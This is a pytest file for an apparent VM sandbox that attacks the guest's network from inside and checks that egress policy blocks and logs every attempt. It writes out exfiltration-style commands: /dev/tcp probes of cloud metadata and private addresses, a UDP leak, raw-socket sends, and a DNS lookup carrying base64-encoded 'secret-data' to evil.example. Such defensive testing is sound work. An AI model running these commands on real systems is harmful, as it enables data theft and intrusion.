"""A machine's network, attacked from inside and judged from the host: by what its servers saw and what its log says."""

from __future__ import annotations

import json
import shlex
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from capsem.host import recipes  # noqa: F401 - skipped by name where capsem is not installed
from tests.egress.upstream import Upstream
from tests.vm.logged import logged
from tests.vm.marks import SANDBOX, machines
from tests.vm.test_machines import Home, home

__all__ = ["home"]
pytestmark = machines(900, *SANDBOX)


class Canary:
    """A server that nothing lists, on every address of this host, TCP and UDP on one port; `touched` is what came."""

    def __init__(self) -> None:
        self.touched: list[str] = []
        self._tcp = socket.create_server(("0.0.0.0", 0))
        self.port = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("0.0.0.0", self.port))
        for work in (self._accept, self._receive):
            threading.Thread(target=work, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                self._tcp.accept()[0].close()
            except OSError:
                return
            self.touched.append("tcp")

    def _receive(self) -> None:
        while True:
            try:
                self._udp.recv(100)
            except OSError:
                return
            self.touched.append("udp")

    def close(self) -> None:
        self._tcp.close()
        self._udp.close()


def own_address() -> str:
    """An address of this host that is not loopback, where it has one."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            sock.connect(("192.0.2.1", 9))
        except OSError:
            return "127.0.0.1"
        return str(sock.getsockname()[0])


@pytest.fixture
def upstream() -> Iterator[Upstream]:
    found = Upstream(None)
    yield found
    found.close()


@pytest.fixture
def canary() -> Iterator[Canary]:
    found = Canary()
    yield found
    found.close()


def entries(home: Home, machine: str) -> list[dict[str, Any]]:
    return [entry for entry in logged(home.info(machine)["log"]) if "type" in entry]


def sessions(home: Home) -> str:
    """What proxies complained of."""
    return "".join(place.read_text() for place in home.path.glob("sessions/*/proxy.log"))[-1500:]


def policy(directory: Path, port: int) -> Path:
    place = directory / "network.yaml"
    place.write_text(
        "version: 1\nname: vm\nextends: [strict]\nnetwork:\n"
        "  hosts: [{host: p.example, ports: [80], methods: [GET]}]\n"
        f'  upstreams: [{{host: p.example, address: "127.0.0.1:{port}", reason: test}}]\n'
    )
    return place


ASK = "exec 3<>/dev/tcp/{host}/{port} && printf '{method} {path} HTTP/1.0\\r\\nHost: {name}\\r\\n\\r\\n' >&3 && cat <&3"


RAW = """perl -MSocket -e '
socket(my $s, PF_INET, SOCK_RAW, 17) or die;
send($s, pack("nnnn", 9, {port}, 8, 0), 0, sockaddr_in(0, inet_aton("{address}")))'"""


def request(
    host: str, port: int, path: str = "/small", *, name: str | None = None, method: str = "GET"
) -> str:
    return ASK.format(host=host, port=port, path=path, name=name or host, method=method)


def test_what_is_listed_is_reached_and_nothing_else(
    home: Home, tmp_path: Path, upstream: Upstream, canary: Canary, capsule_binary: Path
) -> None:
    with socket.create_connection((own_address(), canary.port)):
        pass
    home.create("-n", "net", "--policy", str(policy(tmp_path, upstream.port)))

    def inside(script: str) -> str:
        wrapped = f"timeout 60 bash -c {json.dumps(script)} 2>&1; true"
        return home.text("exec", "net", "--", "bash", "-c", f"({wrapped})".replace("$", "\\$"))

    try:
        said = inside(request("p.example", 80))
        assert "hello /small" in said, [said, entries(home, "net")[-6:], sessions(home)]  # the control
        assert [head[:2] for head in upstream.seen] == [("GET", "/small")]
        assert "403" in inside(request("p.example", 80, "/x", method="POST"))
        assert "capsule blocked" in inside(request("p.example", 80, "/x", method="PUT"))
        canary.touched.clear()
        for address in (own_address(), "169.254.169.254", "10.0.0.1", "172.17.0.1", "100.100.100.200"):
            said = inside(request(address, canary.port, name="p.example"))
            assert "HTTP/1" not in said, said
            assert "HTTP/1" not in inside(request(address, 80, name="p.example"))
        inside(f"echo leak >/dev/udp/{own_address()}/{canary.port}")
        inside(RAW.format(port=canary.port, address=own_address()))
        home.capsem("exec", "net", "--", "getent", "hosts", "c2VjcmV0LWRhdGE.evil.example", code=2)
        inside("for i in $(seq 60); do (: >/dev/tcp/10.9.9.9/80) 2>/dev/null & done; wait")
        assert "hello /small" in inside(request("p.example", 80)), "after a flood it goes on"
        assert canary.touched == []
        assert len([head for head in upstream.seen if head[0] != "GET"]) == 0
        log = entries(home, "net")
        asked = {
            entry["dns"]["name"]: entry["decision"]["action"]
            for entry in log
            if entry["type"] == "egress.dns"
        }
        assert asked["p.example"] == "allow"
        assert asked["c2VjcmV0LWRhdGE.evil.example".lower()] == "block"
        refused = {entry["tcp"]["host"] for entry in log if entry["type"] == "egress.tcp"}
        # 192.0.2.2 is the guest's own address inside, whoever else has it.
        assert {"169.254.169.254", "10.0.0.1", own_address()} - {"192.0.2.2"} <= refused
        http = next(entry for entry in log if entry["type"] == "egress.http")
        assert http["program"]["reported_by"] == "guest"
        assert http["program"]["name"] == "bash"
        dials = [entry["dial"] for entry in log if entry["type"] == "machine.dial"]
        assert {dial["host"] for dial in dials} == {"p.example"}
        assert len([name for name, (group, _) in home.doctor("net").items() if group == "network"]) >= 10
        log_file = home.info("net")["log"]
    finally:
        home.capsem("delete", "--force", "net")
    done = subprocess.run(
        [capsule_binary, "verify", log_file],
        capture_output=True,
        text=True,
        env=home.env,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr


def test_without_a_policy_nothing_is_reached_and_every_try_is_on_the_log(home: Home) -> None:
    home.create("-n", "alone")
    try:
        home.capsem("exec", "alone", "--", "getent", "hosts", "p.example", code=2)
        log = entries(home, "alone")
        [name] = [entry for entry in log if entry["type"] == "egress.dns"][:1]
        assert (name["dns"]["name"], name["decision"]["action"]) == ("p.example", "block")
        assert "machine.dial" not in {entry["type"] for entry in log}
    finally:
        home.capsem("delete", "--force", "alone")


def test_a_budget_stops_a_session_that_runs_away_and_the_record_tells_it(
    home: Home, tmp_path: Path, upstream: Upstream
) -> None:
    """Judged by what the server saw; the control is that as many as may be go through."""
    place = policy(tmp_path, upstream.port)
    place.write_text(place.read_text().replace("network:\n", "network:\n  budget: {requests: 3}\n"))
    machine = home.create("-n", "runaway", "--policy", str(place))
    script = f"for n in 1 2 3 4 5 6; do ({request('p.example', 80)}) | head -1; done"
    try:
        said = home.text(
            "exec", machine, "--", "bash", "-c", f"timeout 100 bash -c {json.dumps(script)} 2>&1; true"
        )
        assert len(upstream.seen) == 3, said
        home.text("stop", machine)
        rows = json.loads(
            home.capsem(
                "query", machine, "SELECT action, reason FROM decisions WHERE type = 'http'", "--json"
            )
        )
        assert [action for action, _ in rows["rows"]] == ["allow"] * 3 + ["block"] * 3, rows
        assert "0 left of 3" in rows["rows"][-1][1]
        found = home.info(machine)
        assert (found["state"], found["recorded"]["requests"], found["recorded"]["refused"]) == (
            "stopped",
            6,
            3,
        )
    finally:
        home.capsem("delete", "--force", machine)
    story = home.text("timeline", found["id"])
    assert f"{found['id']}  runaway  deleted" in story
    assert "GET p.example/small" in story
    assert "0 left of 3 in this run" in story
    assert "halted    as asked" in story
    assert home.text("verify", found["id"]).startswith("verified")


def test_a_secret_is_had_again_by_a_machine_that_begins_again(
    home: Home, tmp_path: Path, upstream: Upstream, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Judged from the host: what waits for values reaches nothing, and what ran on holds what the proxy knows.

    Secrets go over TLS alone, which the image cannot speak: that the proxy knows a placeholder shows in its refusal.
    """
    place = policy(tmp_path, upstream.port)
    secret = (
        "{name: api, from: {env: CAPSEM_TEST_TOKEN}, to: [p.example], as: header, field: X-Token, env: TOKEN}"
    )
    place.write_text(place.read_text() + f"secrets: [{secret}]\n")
    monkeypatch.setitem(home.env, "CAPSEM_TEST_TOKEN", "first-real-value")
    machine = home.create("-n", "asleep", "--policy", str(place))
    head = "GET /small HTTP/1.0\\r\\nHost: p.example\\r\\n"
    send = f"exec 3<>/dev/tcp/p.example/80; printf '{head}X-Token: %s\\r\\n\\r\\n' %s >&3; timeout 20 cat <&3"
    plain, marked = send.replace("' %s", "' nothing"), send.replace("' %s", '\' "$TOKEN"')
    waits = f"until [ -e /tmp/go ]; do sleep 0.2; done; {marked}; touch /tmp/gone"
    sql = "SELECT action, reason FROM decisions WHERE type = 'http' ORDER BY id"

    def decided() -> list[tuple[str, bool]]:
        rows = json.loads(home.capsem("query", machine, sql, "--json"))["rows"]
        return [(action, "the placeholder of api" in (reason or "")) for action, reason in rows]

    refused = ("block", True)
    try:
        home.text("exec", machine, "--", "bash", "-c", plain)
        home.text("exec", machine, "--", "bash", "-c", marked)
        assert (len(upstream.seen), decided()) == (1, [("allow", False), refused]), "the control"
        home.text(
            "exec", machine, "--", "bash", "-c", f"setsid -f bash -c {shlex.quote(waits)} >/dev/null 2>&1"
        )
        home.text("suspend", machine)
        monkeypatch.delitem(home.env, "CAPSEM_TEST_TOKEN")
        home.capsem("resume", machine, code=2)
        assert home.info(machine)["state"] == "suspended", "without the secret nothing was done"
        monkeypatch.setitem(home.env, "CAPSEM_TEST_TOKEN", "second-real-value")
        home.text("resume", machine)
        home.text(
            "exec", machine, "--", "sh", "-c", "touch /tmp/go; until [ -e /tmp/gone ]; do sleep 0.2; done"
        )
        assert decided()[2:] == [refused], "what ran on holds the placeholder that the new proxy knows"
        home.text("stop", machine)
        home.text("start", machine)
        home.text("exec", machine, "--", "bash", "-c", plain)
        assert len(upstream.seen) == 2, "its network does not wait for values"
        kept = [
            one
            for one in (home.path / "sessions").rglob("*")
            if one.is_file() and one.stat().st_size < 1 << 20
        ]
        assert kept
        assert not [one for one in kept if b"-real-value" in one.read_bytes()]
    finally:
        home.capsem("delete", "--force", machine)
